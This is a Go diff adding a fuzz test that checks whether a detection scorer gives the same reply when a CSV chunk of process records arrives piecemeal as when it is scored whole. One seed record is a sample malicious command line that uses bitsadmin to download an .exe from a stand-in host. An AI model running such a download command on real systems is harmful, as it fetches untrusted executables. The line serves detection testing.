@@ -167,3 +167,41 @@ func TestArrivalStoppedMidway(t *testing.T) {
 		t.Error("the chunk after a stopped one differs from the sequential reply")
 	}
 }
+
+// FuzzArrivalEqualsWhole holds scoring as a chunk arrives to scoring it
+// whole, on any records: the fuzzer's body is made into a chunk large
+// enough to be scored as it arrives by repeating its records, and is
+// delivered in reads of sizes drawn from seed.
+func FuzzArrivalEqualsWhole(f *testing.F) {
+	f.Add(testevents.Body(40, 1), uint64(1))
+	f.Add([]byte("CommandLine,Image,_chunked_idx\n\"a\nb\",x,1\n\"bitsadmin /transfer j http://e.example/a.exe c:\\a.exe\",\"C:\\bitsadmin.exe\",2\n"), uint64(2))
+	f.Add([]byte("CommandLine,Image\nta\"skhostw.exe,x\n\"q\"\"q\",y\n"), uint64(3))
+	f.Add([]byte("CommandLine,Image\n\"open,x\nz,y\n"), uint64(4))
+	f.Add([]byte("CommandLine,Image\n\"x\"y,z\na\n"), uint64(5))
+	f.Fuzz(func(t *testing.T, body []byte, seed uint64) {
+		nl := bytes.IndexByte(body, '\n')
+		if nl < 0 || nl == len(body)-1 || len(body) > 4096 {
+			return
+		}
+		records := body[nl+1:]
+		if records[len(records)-1] != '\n' {
+			records = append(records[:len(records):len(records)], '\n')
+		}
+		chunk := append([]byte(nil), body[:nl+1]...)
+		for len(chunk) < minParallelBody+minParallelBody/2 {
+			chunk = append(chunk, records...)
+		}
+		want, wantErr := scoreBody(t, newChunkScorer(detect.NewSPL()), chunk)
+		p := newParallelScorer(detect.NewSPL, 2)
+		rng := rand.New(rand.NewPCG(seed, seed>>7))
+		a := p.beginArrival()
+		deliver(a, chunk, rng, 1+int(seed%(512<<10)), seed%2 == 0)
+		parts, _, err := a.finish(chunk)
+		if (err == nil) != (wantErr == nil) || (err != nil && err.Error() != wantErr.Error()) {
+			t.Fatalf("error %v, want %v", err, wantErr)
+		}
+		if err == nil && !bytes.Equal(checkedReply(t, parts), want) {
+			t.Fatal("reply differs from the whole chunk's")
+		}
+	})
+}
